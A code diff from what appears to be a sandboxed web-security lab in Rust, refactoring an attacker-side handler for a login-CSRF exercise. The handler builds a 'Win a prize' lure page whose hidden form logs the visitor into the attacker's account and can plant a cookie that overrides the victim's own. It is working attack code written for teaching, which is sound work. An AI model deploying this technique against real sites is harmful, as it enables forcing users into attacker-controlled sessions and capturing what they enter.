@@ -3,8 +3,8 @@
 
 use std::sync::Arc;
 
-use axum::extract::rejection::{FormRejection, QueryRejection};
-use axum::extract::{Form, Path, Query, State};
+use axum::extract::rejection::FormRejection;
+use axum::extract::{Form, Path, State};
 use axum::http::{HeaderMap, HeaderValue, StatusCode, header};
 use axum::response::{IntoResponse, Redirect, Response};
 use domain::{Replay, SandboxId};
@@ -13,7 +13,8 @@ use leptos::prelude::*;
 use serde::Deserialize;
 use serde_json::Value;
 
-use super::{at_victim, attacking_policy, script};
+use super::lure::Lure;
+use super::{attacking_policy, script};
 use crate::parties::attacker::Attacker;
 use crate::parties::attacker::page::document;
 
@@ -21,11 +22,9 @@ const ROOM: &str = "/api/lab/rooms/login-csrf";
 /// How much of what his account holds is kept, in characters.
 const KEPT: usize = 16 * 1024;
 
-/// Whom to attack, where to leave for, and whether to put a cookie into the visitor's browser on the way.
+/// Whether to put a cookie into the visitor's browser on the way.
 #[derive(Deserialize)]
-pub(in crate::parties::attacker) struct LoginAttack {
-    sandbox: SandboxId,
-    done: String,
+pub(in crate::parties::attacker) struct Planting {
     #[serde(default)]
     plant: bool,
 }
@@ -37,19 +36,11 @@ pub(in crate::parties::attacker) struct LoginAttack {
 /// takes the place of the victim's own, `__Host-` or not: cookies ignore ports (RFC 6265bis §8.5).
 pub(in crate::parties::attacker) async fn login_csrf(
     State(attacker): State<Arc<Attacker>>,
-    Path(campaign): Path<String>,
-    attack: Result<Query<LoginAttack>, QueryRejection>,
+    Lure { sandbox, done, asked: Planting { plant }, .. }: Lure<Planting>,
 ) -> Response {
-    let Ok(Query(attack)) = attack else { return StatusCode::BAD_REQUEST.into_response() };
-    let Some(done) = at_victim(&attacker, &attack.done) else {
-        return StatusCode::BAD_REQUEST.into_response();
-    };
-    if attacker.campaigns().find(&campaign).is_none() {
-        return StatusCode::NOT_FOUND.into_response();
-    }
     // The query says where the lab is to note it.
-    let action = format!("{}{ROOM}/login?sandbox={}", attacker.victim, attack.sandbox);
-    let form = OwnForm::ask_for(&attacker, &attack.sandbox).await.unwrap_or_default();
+    let action = format!("{}{ROOM}/login?sandbox={}", attacker.victim, sandbox);
+    let form = OwnForm::ask_for(&attacker, &sandbox).await.unwrap_or_default();
     let page = document(
         "Win a prize",
         view! {
@@ -62,14 +53,14 @@ pub(in crate::parties::attacker) async fn login_csrf(
                 <input type="hidden" name="email" value=MALLORY.email/>
                 <input type="hidden" name="password" value=MALLORY.password/>
                 <input type="hidden" name="anti_forgery_token" value=form.anti_forgery_token.clone()/>
-                <input type="hidden" name="sandbox" value=attack.sandbox.to_string()/>
+                <input type="hidden" name="sandbox" value=sandbox.to_string()/>
                 <input type="hidden" name="return_to" value=done/>
                 <button type="submit">"Take the prize"</button>
             </form>
             <script src="/login_csrf.js"></script>
         },
     );
-    let planted = attack.plant.then(|| [(header::SET_COOKIE, form.set_cookie())]);
+    let planted = plant.then(|| [(header::SET_COOKIE, form.set_cookie())]);
     let mut response = (attacking_policy(&attacker), page).into_response();
     response.headers_mut().extend(planted.into_iter().flatten());
     response
